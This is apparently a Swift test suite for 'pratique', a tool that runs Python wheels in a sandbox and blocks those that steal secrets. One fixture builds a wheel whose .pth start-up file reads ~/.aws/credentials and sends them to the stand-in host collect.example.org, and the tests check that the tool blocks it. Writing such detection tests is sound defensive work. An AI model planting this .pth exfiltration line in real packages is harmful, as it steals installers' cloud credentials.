import ConfigurationFormats
import FoundationEssentials
import TestSupport
import Testing

/// What the sandbox needs of the machine, as the program itself says.
private enum Machine {
  private static let doctor: JSONValue? = {
    let run = try? Subprocess.run("pratique", ["doctor", "--format", "json"])
    return run.flatMap { try? JSONValue.read(bytes($0.output)) }
  }()

  static let isTierA = doctor?["tier"]?.string == "A"
  static let canObserve = isTierA && (doctor?["checks"]?.array ?? []).allSatisfy(isThere)

  private static func isThere(_ check: JSONValue) -> Bool {
    check["need"]?.string != "observing" || check["allowed"]?.boolean == true
  }

  static let noSandbox: Comment = "no sandbox of tier A, or no interpreter with pip; see pratique doctor"
}

@Suite("pratique observe", .serialized, .enabled(if: Machine.canObserve, Machine.noSandbox))
struct ObserveTests {
  private static func run(_ arguments: [String], in folder: TemporaryDirectory) throws -> Subprocess {
    try Subprocess.run(
      "pratique", arguments,
      environment: [
        "LANG": "C.UTF-8", "HOME": folder.path, "PATH": ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin",
      ], directory: folder.path)
  }

  /// A wheel whose start-up line takes a credential to a host that nobody has.
  private static let thief = WheelBuilder(
    name: "harbour",
    files: [
      ("harbour/__init__.py", "ANSWER = 42\n"),
      (
        "harbour.pth",
        "import os, urllib.request as u; u.urlopen('http://collect.example.org/x', "
          + "data=open(os.path.expanduser('~/.aws/credentials'), 'rb').read())\n"
      ),
    ])

  @Test("blocks who takes a credential away, with the stage, the file and the proof")
  func thief() throws {
    let folder = TemporaryDirectory()
    let path = Self.thief.write(to: folder)
    let run = try Self.run(["observe", path, "--persona", "laptop", "--format", "json", "--no-deps"], in: folder)
    #expect(run.status == 1, "\(run.errors)")
    let artifact = try #require(try JSONValue.read(bytes(run.output))["artifacts"]?.array?.first)
    #expect(artifact["verdict"]?.string == "block")
    let findings = try #require(artifact["findings"]?.array)
    let theft = try #require(findings.first { $0["rule"]?.string == "PRQ601" })
    #expect(theft["severity"]?.string == "critical" && theft["trigger"]?.integer == 0)
    let stages = try #require(artifact["observation"]?["stages"]?.array)
    #expect(stages.contains { $0["name"]?.string == "python -c pass" && $0["persona"]?.string == "laptop" })
    #expect(artifact["observation"]?["tier"]?.string == "A")
    let people = try Self.run(["observe", path, "--persona", "laptop", "--no-deps"], in: folder)
    #expect(people.output.contains("BLOCK") && people.output.contains("collect.example.org"), "\(people.output)")
    #expect(people.output.contains("harbour.pth"))
  }

  @Test("lays what was predicted beside what was seen")
  func beside() throws {
    let folder = TemporaryDirectory()
    let path = Self.thief.write(to: folder)
    let run = try Self.run(
      ["check", "--observe", path, "--persona", "laptop", "--format", "json", "--no-deps"], in: folder)
    let artifact = try #require(try JSONValue.read(bytes(run.output))["artifacts"]?.array?.first)
    let rules = Set(artifact["findings"]?.array?.compactMap { $0["rule"]?.string } ?? [])
    #expect(rules.isSuperset(of: ["PRQ101", "PRQ601"]), "\(rules)")
    let predictions = try #require(artifact["comparison"]?["predictions"]?.array)
    #expect(predictions.first?["outcome"]?.string == "confirmed")
    #expect(artifact["comparison"]?["surprises"]?.array?.isEmpty == true, "\(run.output)")
  }

  @Test("admits who does nothing, and says what it cannot run")
  func honest() throws {
    let folder = TemporaryDirectory()
    let path = CheckTests.hookedWheel().write(to: folder)
    let run = try Self.run(["observe", path, "--persona", "ci-runner", "--no-deps"], in: folder)
    #expect(run.status == 0, "\(run.output)\(run.errors)")
    #expect(run.output.contains("ADMIT") && run.output.contains("tier A"))
    let other = try Self.run(["observe", folder.path + "/hooked.py"], in: folder)
    #expect(other.status == 3, "\(other.output)")
  }

  @Test("leaves nothing behind")
  func traces() throws {
    let folder = TemporaryDirectory()
    let path = CheckTests.plainWheel().write(to: folder)
    _ = try Self.run(["observe", path, "--persona", "laptop", "--no-deps", "--no-import"], in: folder)
    #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path).sorted() == [Self.name(of: path)])
  }

  private static func name(of path: String) -> String { path.split(separator: "/").last.map(String.init) ?? path }
}

@Suite("pratique doctor")
struct DoctorTests {
  @Test("says which tier there is, and by its status")
  func tiers() throws {
    let json = try Subprocess.run("pratique", ["doctor", "--format", "json"])
    let report = try JSONValue.read(bytes(json.output))
    #expect(report["schema"]?.string == "pratique/doctor/1")
    let expected: [String?: Int32] = ["A": 0, "B": 1, nil: 3]
    #expect(json.status == expected[report["tier"]?.string])
    let people = try Subprocess.run("pratique", ["doctor"], environment: ["LANG": "C.UTF-8"])
    #expect(people.status == json.status)
    #expect(people.output.contains("doctor") && people.errors == "")
    for check in report["checks"]?.array ?? [] where check["allowed"]?.boolean == false {
      #expect(check["remedy"]?.string?.isEmpty == false, "\(check["name"]?.string ?? "")")
    }
  }
}
